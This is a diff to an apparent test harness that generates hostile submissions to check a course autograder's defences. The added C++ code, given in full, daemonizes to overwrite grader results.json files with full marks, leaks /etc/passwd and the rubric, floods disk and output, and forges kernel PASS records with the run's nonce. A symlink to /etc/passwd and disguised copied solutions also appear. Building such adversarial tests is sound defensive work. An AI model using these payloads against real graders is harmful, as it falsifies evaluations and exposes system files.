@@ -57,6 +57,155 @@ INSERTS = {
 }
 PANIC_DECLARATION = "namespace toll {\n[[noreturn]] void panic(const char* fmt, ...);\n}\n"
 
+# Host-side escape attempts, all in one submission (they run at build time,
+# when test discovery runs the host test program, and under ctest): a
+# process that outlives its step (setsid'd), looks for the grader's output
+# folder and rewrites every results.json it can reach to full marks; reads
+# of the grading machine's files printed into the test output; a 1 GiB file;
+# 16 MB of output. Put above the region, so the starter's stub stays.
+ESCAPE_TOP = r"""
+#ifdef TOLL_HOST_TEST
+#include <dirent.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+namespace {
+const char* const k_out = "@OUT@";
+const char* const k_peek[] = {"/etc/passwd", "/etc/hostname", "@ROOT@/src/lib/format.cpp",
+                              "@ROOT@/labs/lab-demo/rubric.toml"};
+void rewrite_everything()
+{
+    FILE* marker = fopen("@OUT@/escaped.txt", "w");
+    if (marker)
+        fclose(marker);
+    DIR* d = opendir(k_out);
+    if (!d)
+        return;
+    while (dirent* e = readdir(d)) {
+        char path[4096];
+        snprintf(path, sizeof path, "%s/%s/results.json", k_out, e->d_name);
+        if (FILE* f = fopen(path, "w")) {
+            fputs("{\"score\": 11, \"max_score\": 11, \"tests\": []}\n", f);
+            fclose(f);
+        }
+    }
+    closedir(d);
+}
+struct Escape {
+    Escape()
+    {
+        for (const char* name : k_peek) {
+            if (FILE* f = fopen(name, "r")) {
+                char line[256];
+                while (fgets(line, sizeof line, f))
+                    fprintf(stderr, "LEAK %s: %s", name, line);
+                fclose(f);
+            }
+        }
+        if (fork() == 0) {
+            setsid();
+            if (fork() == 0) {
+                // Quietly: no pipe of the grader's stays open to give it away.
+                freopen("/dev/null", "r", stdin);
+                freopen("/dev/null", "w", stdout);
+                freopen("/dev/null", "w", stderr);
+                for (int i = 0; i < 600; ++i) {  // a minute: longer than the whole batch
+                    rewrite_everything();
+                    usleep(100000);
+                }
+            }
+            _exit(0);
+        }
+    }
+} escape;
+bool flooded;
+void flood_and_fill()
+{
+    if (flooded)
+        return;
+    flooded = true;
+    signal(SIGXFSZ, SIG_IGN);
+    if (FILE* f = fopen("/tmp/toll-hostile-big", "w")) {
+        static char block[1 << 20];
+        for (int i = 0; i < 1024 && fwrite(block, 1, sizeof block, f) == sizeof block; ++i) {
+        }
+        fclose(f);
+    }
+    static char text[1 << 16];
+    memset(text, 'x', sizeof text);
+    for (int i = 0; i < 256; ++i) {  // 16 MB
+        fwrite(text, 1, sizeof text, stdout);
+    }
+}
+} // namespace
+#endif
+#if __has_include("/etc/passwd")
+#include "/etc/passwd"
+#endif
+#if __has_include("@ROOT@/src/lib/format.cpp")
+#include "@ROOT@/src/lib/format.cpp"
+#endif
+"""
+ESCAPE_INSERT = "#ifdef TOLL_HOST_TEST\n    flood_and_fill();\n#endif\n"
+
+# A kernel that forges a full run: it reads the nonce from the command line,
+# prints the records with it and powers off. The nonce cannot stop this; the
+# audit must name it.
+FORGER_TOP = """#include <stddef.h>
+namespace toll {
+bool param_get(const char* key, char* out, size_t out_size);
+void kprintf(const char* fmt, ...);
+namespace arch {
+[[noreturn]] void poweroff(bool success);
+}
+}
+"""
+FORGER_INSERT = KERNEL_ONLY.format(body=(
+    "    {\n"
+    "        static bool forged;\n"
+    "        char nonce[40];\n"
+    "        if (!forged && toll::param_get(\"nonce\", nonce, sizeof nonce)) {\n"
+    "            forged = true;\n"
+    "            toll::kprintf(\"@%s TEST kern.format_in_kernel PASS\\n\", nonce);\n"
+    "            toll::kprintf(\"@%s TEST kern.static_constructors_ran PASS\\n\", nonce);\n"
+    "            toll::kprintf(\"@%s DONE 2 passed, 0 failed, 0 skipped\\n\", nonce);\n"
+    "            toll::arch::poweroff(true);\n"
+    "        }\n"
+    "    }"))
+
+# Another correct put_number (not the reference's), and the same code with
+# every name changed and the layout redone: the similarity report must pair them.
+OTHER_SOLUTION = """    char buf[32];
+    int len = 0;
+    const char* digs = upper ? "0123456789ABCDEF" : "0123456789abcdef";
+    if (value == 0)
+        buf[len++] = '0';
+    while (value != 0) {
+        buf[len++] = digs[value % base];
+        value = value / base;
+    }
+    int total = len + (negative ? 1 : 0);
+    int fill = width > total ? width - total : 0;
+    if (!left && !zero_pad)
+        for (int i = 0; i < fill; i++)
+            w.put(" ", 1);
+    if (negative)
+        w.put("-", 1);
+    if (!left && zero_pad)
+        for (int i = 0; i < fill; i++)
+            w.put("0", 1);
+    for (int i = len - 1; i >= 0; i--)
+        w.put(&buf[i], 1);
+    if (left)
+        for (int i = 0; i < fill; i++)
+            w.put(" ", 1);
+"""
+RENAMES = (("buf", "out_chars"), ("len", "count"), ("digs", "alphabet"), ("total", "needed"),
+           ("fill", "pad_n"), ("(int i", "(int k"), ("i <", "k <"), ("i++", "k++"), ("i--", "k--"),
+           ("i >=", "k >="), ("[i]", "[k]"))
+
 
 def region_of(root):
     regions = [r for r in lab_regions.find_regions(root, [FORMAT]) if r.lab == LAB]
@@ -68,13 +217,23 @@ def region_of(root):
 def variant_text(root, name):
     """The reference's format.cpp with the hostile lines of @p name."""
     with open(os.path.join(root, FORMAT)) as f:
-        lines = f.read().splitlines(keepends=True)
-    r = region_of(root)
-    lines[r.begin:r.begin] = [INSERTS[name]]
-    text = "".join(lines)
-    if name == "panic":
-        text = PANIC_DECLARATION + text
-    return text
+        return insert(f.read(), INSERTS[name], PANIC_DECLARATION if name == "panic" else "")
+
+
+def insert(text, lines_in_region, top=""):
+    """@p text (a format.cpp) with @p lines_in_region put first in the lab's
+    region and @p top before everything."""
+    lines = text.splitlines(keepends=True)
+    r = [r for r in lab_regions.parse_regions(FORMAT, text) if r.lab == LAB][0]
+    lines[r.begin:r.begin] = [lines_in_region]
+    return top + "".join(lines)
+
+
+def replace_region(text, body):
+    """@p text with the lab's region holding only @p body."""
+    lines = text.splitlines(keepends=True)
+    r = [r for r in lab_regions.parse_regions(FORMAT, text) if r.lab == LAB][0]
+    return "".join(lines[:r.begin] + [body] + lines[r.end - 1:])
 
 
 def write_file(path, text):
@@ -88,8 +247,9 @@ def git(*args, cwd):
                     *args], cwd=cwd, check=True, capture_output=True)
 
 
-def make_batch(root, batch, scratch):
-    """Writes every submission into @p batch; returns {name: description}."""
+def make_batch(root, batch, scratch, out=None):
+    """Writes every submission into @p batch; returns {name: description}.
+    @p out is the grader's output folder, which the escape attempt targets."""
     os.makedirs(batch)
     made = {}
     starter = os.path.join(scratch, "starter")
@@ -112,9 +272,41 @@ def make_batch(root, batch, scratch):
     made["starter"] = "the starter from tools/mklab, as a tree"
 
     # Kernel-breaking variants as trees holding only the student's file ...
-    for name in ("nocompile", "loop", "triple", "flood", "forged"):
+    for name in ("nocompile", "triple", "flood", "forged"):
         write_file(os.path.join(batch, name, FORMAT), variant_text(root, name))
         made[name] = f"the reference with a '{name}' insert in put_number, as a tree"
+    # ... one whose worksheet is a symbolic link to a file of the grading machine ...
+    os.makedirs(os.path.join(batch, "triple", "labs", "lab-demo"))
+    os.symlink("/etc/passwd", os.path.join(batch, "triple", "labs", "lab-demo", "results.toml"))
+    # ... and one uploaded flat, in a .zip (Gradescope's usual upload).
+    import zipfile
+    with zipfile.ZipFile(os.path.join(batch, "loop.zip"), "w") as z:
+        z.writestr("format.cpp", variant_text(root, "loop"))
+        z.write(os.path.join(root, "labs/lab-demo/results.toml"), "results.toml")
+    made["loop"] = "the reference with an endless loop in put_number, flat in a .zip"
+
+    with open(os.path.join(starter, FORMAT)) as f:
+        starter_text = f.read()
+    with open(os.path.join(root, FORMAT)) as f:
+        reference_text = f.read()
+    escape = ESCAPE_TOP.replace("@OUT@", os.path.abspath(out or batch)).replace("@ROOT@", root)
+    write_file(os.path.join(batch, "escape", FORMAT), insert(starter_text, ESCAPE_INSERT, escape))
+    made["escape"] = "the starter with host code that tries to outlive and escape the grader"
+    write_file(os.path.join(batch, "forger", FORMAT),
+               insert(starter_text, FORGER_INSERT, FORGER_TOP))
+    made["forger"] = "the starter with kernel code that forges records with the run's nonce"
+    copy_a = replace_region(reference_text, OTHER_SOLUTION)
+    write_file(os.path.join(batch, "copy_a", FORMAT), copy_a)
+    write_file(os.path.join(batch, "copy_a", "labs/lab-demo/results.toml"),
+               "measurements = \"not a table\"\n")
+    made["copy_a"] = "another correct solution, with a malformed worksheet"
+    renamed = OTHER_SOLUTION
+    for old, new in RENAMES:
+        renamed = renamed.replace(old, new)
+    renamed = "    // my own work\n" + renamed.replace("    ", "\t").replace(" = ", "=")
+    write_file(os.path.join(batch, "copy_b", FORMAT),
+               replace_region(reference_text, renamed) + "\n#error copy_b stops here\n")
+    made["copy_b"] = "copy_a's code renamed and reformatted (and not building)"
 
     # ... and one as a patch against the starter.
     with open(os.path.join(starter, FORMAT)) as f:
